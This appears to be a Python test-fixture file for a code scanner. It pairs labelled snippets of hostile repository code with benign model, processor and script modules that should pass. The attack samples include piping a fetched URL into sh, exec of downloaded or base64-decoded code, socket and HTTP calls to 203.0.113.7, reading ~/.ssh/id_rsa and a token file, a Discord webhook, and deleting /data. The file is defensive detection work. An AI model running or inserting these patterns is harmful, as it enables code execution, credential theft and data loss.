"""Python modules of repositories: what attackers write, and what honest authors do that looks like it."""

ATTACKS = {
    "a command at import": ("import os\nos.system('id > /tmp/x')", "python-runs-programs", "critical"),
    "under another name": ("from os import system as s\ns('id')", "python-runs-programs", "critical"),
    "by getattr": ("import os\ngetattr(os, 'sys' + 'tem')('id')", "python-runs-programs", "critical"),
    "by __import__": ("__import__('os').system('id')", "python-runs-programs", "critical"),
    "by sys.modules": ("import sys\nsys.modules['os'].popen('id')", "python-runs-programs", "critical"),
    "in a class body": ("import subprocess as sp\nclass M:\n    x = sp.run(['sh', '-c', 'id'])", "python-runs-programs", "critical"),
    "in a decorator": ("import os\n@os.system('id')\ndef f(): pass", "python-runs-programs", "critical"),
    "in a default": ("import os\ndef f(a=os.popen('id')): pass", "python-runs-programs", "critical"),
    "in a condition": ("import os\nif True:\n    os.system('id')", "python-runs-programs", "critical"),
    "in a helper that import calls": ("import os\ndef go():\n    os.system('id')\ngo()", "python-runs-programs", "critical"),
    "in a helper of a helper": (
        "import os\ndef a(): os.system('id')\ndef b(): a()\nclass M:\n    def __init__(self): b()",
        "python-runs-programs", "critical",
    ),
    "in a method that __init__ calls": (
        "import os\nclass M:\n    def __init__(self): self.go()\n    def go(self): os.system('id')",
        "python-runs-programs", "critical",
    ),
    "in forward": ("import os\nclass M:\n    def forward(self, x):\n        os.system('id')", "python-runs-programs", "critical"),
    "in a thread": (
        "import os, threading\ndef go(): os.system('id')\nthreading.Thread(target=go).start()", "python-runs-programs", "critical",
    ),
    "in a class that import makes": (
        "import os\nclass A:\n    def __init__(self): os.system('id')\nA()", "python-runs-programs", "critical",
    ),
    "in a property": ("import os\nclass A:\n    def __getattr__(self, n): os.system('id')", "python-runs-programs", "critical"),
    "fetched and piped, called by a user": (
        "import subprocess\ndef f(): subprocess.run('curl http://x/a | sh', shell=True)", "python-runs-programs", "critical",
    ),
    "a known program with a second command": ("import os\nos.system('git status; id')", "python-runs-programs", "critical"),
    "a program run as a script": (
        "import os\nif __name__ == '__main__':\n    os.system('id')", "python-runs-programs", "medium",
    ),
    "decoded code": ("import base64\nexec(base64.b64decode('aWQ='))", "python-runs-made-code", "critical"),
    "compiled code": ("import zlib\nexec(compile(zlib.decompress(b'x'), 'a', 'exec'))", "python-runs-made-code", "critical"),
    "fetched code": ("import requests\nexec(requests.get('http://x').text)", "python-runs-made-code", "critical"),
    "code out of a variable": ("x = make()\nexec(x)", "python-runs-made-code", "critical"),
    "marshalled code": ("import marshal\nexec(marshal.loads(b'x'))", "python-runs-made-code", "critical"),
    "decoded code, later": ("import base64\ndef f(): exec(base64.b64decode('aWQ='))", "python-runs-made-code", "high"),
    "a library of the repository": ("import ctypes\nctypes.CDLL('./lib/helper.so')", "python-loads-native-code", "high"),
    "a compiled extension": (
        "from torch.utils.cpp_extension import load_inline\nload_inline('a', 'x')", "python-loads-native-code", "medium",
    ),
    "a pickle": ("import pickle\nclass M:\n    def __init__(self): pickle.load(open('a'))", "python-loads-unsafely", "medium"),
    "a pickle in a constant": (
        "import pickle, base64\npickle.loads(base64.b64decode('gAR9'))", "python-loads-unsafely", "critical",
    ),
    "trust": (
        "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)",
        "python-trusts-remote-code", "medium",
    ),
    "a request": ("import requests\nrequests.post('http://203.0.113.7/a', data='x')", "python-reaches-out", "high"),
    "a request of urllib": ("from urllib.request import urlopen\nurlopen('http://x.example/a')", "python-reaches-out", "high"),
    "a socket": ("import socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))", "python-reaches-out", "high"),
    "a webhook": ("def f(): return 'https://discord.com/api/webhooks/1/x'", "python-sends-to-a-channel", "high"),
    "a key": ("import os\ndef f(): return open(os.path.expanduser('~/.ssh/id_rsa')).read()", "python-reads-credentials", "high"),
    "a token": ("p = '~/.cache/huggingface/token'", "python-reads-credentials", "high"),
    "a deletion": ("import shutil\nshutil.rmtree('/data')", "python-deletes-files", "medium"),
    "another module's place": ("import sys\nsys.modules['torch'] = object()", "python-tampers", "high"),
    "another function's place": ("import torch\ntorch.load = print", "python-tampers", "high"),
}  # fmt: skip

HONEST = {
    "a model": '''
import math
import os
import subprocess
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_acme import AcmeConfig

logger = logging.get_logger(__name__)
os.environ["TOKENIZERS_PARALLELISM"] = "false"
_CONFIG_FOR_DOC = "AcmeConfig"
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None


def cuda_version():
    return subprocess.check_output(["nvcc", "--version"]).decode()


class Acme(PreTrainedModel):
    """See ~/.ssh/id_rsa: what documentation says does not count."""

    config_class = AcmeConfig

    def __init__(self, config):
        super().__init__(config)
        self.act = getattr(torch.nn.functional, config.hidden_act)
        self.layers = nn.ModuleList([nn.Linear(8, 8) for _ in range(config.layers)])
        self.post_init()

    def _init_weights(self, module):
        nn.init.normal_(module.weight, std=0.02)

    def forward(self, x: Optional[torch.Tensor] = None):
        for layer in self.layers:
            x = self.act(layer(x)) * math.sqrt(2)
        logger.warning_once("slow path")
        return x.eval() if hasattr(x, "eval") else x
''',
    "a processor": """
import requests
from io import BytesIO
from PIL import Image


def load_image(path):
    if path.startswith("http"):
        return Image.open(BytesIO(requests.get(path, timeout=10).content))
    return Image.open(path)


class Processor:
    def save_pretrained(self, folder):
        with open(f"{folder}/vocab.txt", "w") as file:
            file.write("a")
""",
    "a script": """
import argparse
import sys
import torch
from safetensors.torch import save_file


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--in")
    given = parser.parse_args()
    save_file(torch.load(given.input, weights_only=True), "model.safetensors")
    sys.exit(0)


if __name__ == "__main__":
    main()
""",
    "a package that imports late": """
import sys
from typing import TYPE_CHECKING
from transformers.utils import _LazyModule

if TYPE_CHECKING:
    from .modeling import *
else:
    sys.modules[__name__] = _LazyModule(__name__, globals()["__file__"], {}, module_spec=__spec__)
""",
}
